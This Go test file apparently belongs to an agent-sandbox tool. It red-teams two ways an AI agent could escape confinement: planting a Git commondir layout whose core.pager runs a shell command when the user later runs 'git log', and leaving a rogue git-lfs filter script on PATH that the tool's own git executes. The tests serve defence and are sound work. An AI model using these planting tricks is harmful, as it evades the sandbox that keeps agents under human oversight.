// directory for Git when it has a valid HEAD and its common dir (the one
// its `commondir` file names) has objects/ and refs/; the repository's
// config is the common dir's. The after-session walk quarantines a bare
// layout only when HEAD, objects/ and refs/ are side by side, so an agent
// leaves, at the top of a workdir that is no Git work tree, HEAD and a
// commondir naming .cx/ (objects/, refs/, config with core.pager, no
// HEAD): the user's next `git log` there, in a terminal, runs the agent's
// command outside the sandbox (guarantee 6). (fedmem-run's own proposal
// git sees a bare repository there and runs no filter: patch mode runs
// plumbing only.)
func TestRedTeamCommondirBareLayoutEscapesWalk(t *testing.T) {
	for _, l := range proposeLayouts {
		t.Run(l.name, func(t *testing.T) {
			e := setup(t, l)
			must(t, os.WriteFile(filepath.Join(e.workdir, "a.txt"), []byte("base\n"), 0o644))
			e.ownWorkdir(t)
			marker := filepath.Join(e.outDir, "pager-ran-outside")
			if l.user {
				must(t, os.Chmod(e.outDir, 0o777))
			}
			plant := `set -e
export HOME=/tmp GIT_CONFIG_NOSYSTEM=1
git init -q --bare .cx
git --git-dir=.cx --work-tree=. add a.txt
git --git-dir=.cx --work-tree=. -c user.name=a -c user.email=a@a commit -qm base
cp .cx/HEAD HEAD && rm .cx/HEAD
echo .cx > commondir
git config --file .cx/config core.pager "sh -c 'id > $1; cat'"
echo PLANTED`
			r1 := e.run(t, nil, "sh", "-c", plant, "sh", marker)
			if _, err := exec.LookPath("script"); err != nil {
				t.Skip("needs script(1) for a terminal")
			}
			if !strings.Contains(string(r1.stdout), "PLANTED") {
				t.Fatalf("session 1 did not plant (exit %d):\n%s\n%s", r1.code, r1.stdout, r1.stderr)
			}
			// The user, later, in a terminal (script(1) gives git one).
			cmd := exec.Command("script", "-qec", "git log --oneline", "/dev/null")
			cmd.Dir = e.workdir
			cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
			if l.user {
				cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: agentUID, Gid: agentUID}}
			}
			out, err := cmd.CombinedOutput()
			t.Logf("git -p log in the workdir after the session: %v\n%s", err, out)
			if b, err := os.ReadFile(marker); err == nil {
				t.Fatalf("BREACH: the user's git log in %s ran the pager an agent configured in a commondir bare layout (.cx/config), which the after-session walk left: %s", e.workdir, b)
			}
		})
	}
}

// TestRedTeamProposeGitChildrenFromAgentPath: fedmem-run's proposal git is
// found on the filtered PATH, but runs with the caller's environment, PATH
// unfiltered (gitEnv keeps it). A program git itself runs by name — the
// user's global filter driver (git-lfs's `git-lfs filter-process`, here a
// clean filter), refreshed on a copy of the user's index when a tracked
// file's stat differs (uncommitted) — comes from the workdir's bin/ that
// PATH names, where an earlier session's agent left it: run as the caller,
// outside the sandbox.
func TestRedTeamProposeGitChildrenFromAgentPath(t *testing.T) {
	e := setup(t, layout{name: "beside/root"})
	gitWorkdir(t, e)
	must(t, os.WriteFile(filepath.Join(e.home, ".gitconfig"), []byte("[filter \"lfs\"]\n\tclean = git-lfs-clean %f\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(e.workdir, ".gitattributes"), []byte("a.txt filter=lfs\n"), 0o644))
	// The user's work tree: a.txt's stat differs from the index (same size).
	must(t, os.Chtimes(filepath.Join(e.workdir, "a.txt"), time.Unix(1e9, 0), time.Unix(1e9, 0)))
	bin := filepath.Join(e.workdir, "bin")
	must(t, os.MkdirAll(bin, 0o755))
	marker := filepath.Join(e.outDir, "filter-ran-outside")
	// What an earlier session's agent left in the workdir.
	must(t, os.WriteFile(filepath.Join(bin, "git-lfs-clean"), []byte("#!/bin/sh\nid > "+marker+"\ncat\n"), 0o755))
	e.path = bin + ":/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"
	r := e.proposeRun(t, "strict", nil, "sh", "-c", `echo more >> a.txt && echo WROTE`)
	if !strings.Contains(string(r.stdout), "WROTE") {
		t.Fatalf("the agent did not write (exit %d):\n%s", r.code, r.stderr)
	}
	if b, err := os.ReadFile(marker); err == nil {
		t.Fatalf("BREACH: fedmem-run's proposal git ran %s/git-lfs-clean (the user's filter driver, found on the caller's unfiltered PATH) outside the sandbox as the caller: %s", bin, b)
	}
	if p := reportProposal(t, r); p.Kind != "branch" {
		t.Errorf("proposal %+v, want a branch", p)
	}
}
